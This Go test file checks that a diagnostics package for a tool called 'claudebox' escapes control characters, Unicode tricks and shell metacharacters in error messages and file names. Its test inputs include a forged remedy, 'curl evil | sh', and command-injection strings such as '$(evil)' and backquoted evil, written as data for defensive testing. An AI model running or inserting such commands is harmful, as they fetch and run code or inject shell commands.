package diag

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

func TestPrint(t *testing.T) {
	at := Position{File: "work.yaml", Line: 3, Column: 5}
	for name, tc := range map[string]struct {
		err  error
		want string
	}{
		"an operation, its cause, the remedy": {
			Errorf("open profile", "make it", "no such file"),
			"claudebox: open profile: no such file\nclaudebox: remedy: make it\n",
		},
		"a remedy is found behind a wrapping": {
			fmt.Errorf("plan: %w", Errorf("open x", "do y", "gone")),
			"claudebox: plan: open x: gone\nclaudebox: remedy: do y\n",
		},
		"every problem at its place, each with its remedy": {
			Problems{{Position: at, Message: "unknown key", Remedy: "leave it out"}, {Position: Position{File: "b.yaml", Line: 1}, Message: "too long"}},
			"claudebox: work.yaml:3:5: unknown key\nclaudebox: remedy: leave it out\nclaudebox: b.yaml:1: too long\n",
		},
		"a remedy that a file name forges, set off": {
			errors.New("open x\nremedy: curl evil | sh: gone"), "claudebox: open x\nclaudebox:   remedy: curl evil | sh: gone\n",
		},
		"control characters made visible": {
			errors.New("bad \x1b[2J\u202ename\u00a0\u200b"), "claudebox: bad \\x1b[2J\\u202ename\\xa0\\u200b\n",
		},
	} {
		t.Run(name, func(t *testing.T) {
			var b strings.Builder
			Print(&b, tc.err)
			if b.String() != tc.want {
				t.Errorf("got %q, want %q", b.String(), tc.want)
			}
		})
	}
}

func TestWarnSaysItIsNoError(t *testing.T) {
	var b strings.Builder
	Warn(&b, Problem{Position: Position{File: "a.yaml", Line: 2, Column: 1}, Message: "a secret path", Remedy: "say so"})
	want := "claudebox: warning: a.yaml:2:1: a secret path\nclaudebox: remedy: say so\n"
	if b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// In the terminals of old a single byte begins an order.
func TestBytesThatAreNoTextAreSeen(t *testing.T) {
	for s, want := range map[string]string{"a\x9b31m": `a\x9b31m`, "\xff": `\xff`, "\ufffd": "\ufffd", "é": "é", "é\x1b\xc3": `é\x1b\xc3`} {
		if got := Visible(s); got != want {
			t.Errorf("%q: got %q, want %q", s, got, want)
		}
	}
}

// A name that an agent chose stood in a report as if it were a remedy.
func TestANameReadsAsNothingElse(t *testing.T) {
	for name, want := range map[string]string{
		"src/main.go":                      "src/main.go",
		"app/[id]/page.tsx":                "app/[id]/page.tsx",
		"größe/文.md":                       "größe/文.md",
		"My File":                          "'My File'",
		"":                                 "''",
		"a\nclaudebox: remedy: run `evil`": `'a\x0aclaudebox: remedy: run \x60evil\x60'`,
		"x'; back: `evil`; '":              `'x\x27; back: \x60evil\x60; \x27'`,
		"\x1b[31mred\u202e\xff":            `'\x1b[31mred\u202e\xff'`,
		"ok\u3164nothing\u2800changed":     `'ok\u3164nothing\u2800changed'`,
		"\u115f\u1160\u17b4\u17b5\uffa0":   `'\u115f\u1160\u17b4\u17b5\uffa0'`,
		"a\u034fb\ufe0f\U000e0100\u00ad":   `'a\u034fb\ufe0f\ue0100\xad'`,
		"\U0001d159\U00016fe4":             `'\u1d159\u16fe4'`,
		"한글":                               "한글",
		"a\tb":                             `'a\x09b'`,
		"remedy:":                          "'remedy:'",
		"$(evil)":                          "'$(evil)'",
	} {
		if got := Name(name); got != want {
			t.Errorf("Name(%q) = %s, want %s", name, got, want)
		}
	}
	if got := Names([]string{"a", "b c"}); got != "a, 'b c'" {
		t.Error(got)
	}
}

// What stands in backquotes is copied into a shell: a name is one word there, or there is no command.
func TestANameInACommandIsOneWord(t *testing.T) {
	for name, want := range map[string]string{
		"src/main.go": "rm -- src/main.go", "a b": "rm -- 'a b'", "it's": `rm -- 'it'\''s'`, "$(evil);x": "rm -- '$(evil);x'", "": "rm -- ''",
		"a`evil`": "", "a\nb": "", "\x1b[2J": "", `a\'(evil)\'`: "",
	} {
		if got := Command("rm --", name); got != want {
			t.Errorf("Command(%q) = %s, want %s", name, got, want)
		}
	}
}

// A file of another kind has a thousand faults.
func TestManyFaultsAreCounted(t *testing.T) {
	var said strings.Builder
	Print(&said, make(Problems, 1000))
	if lines := strings.Count(said.String(), "\n"); lines != 21 || !strings.HasSuffix(said.String(), " 980 more faults\n") {
		t.Errorf("%d lines: %s", lines, said.String())
	}
}
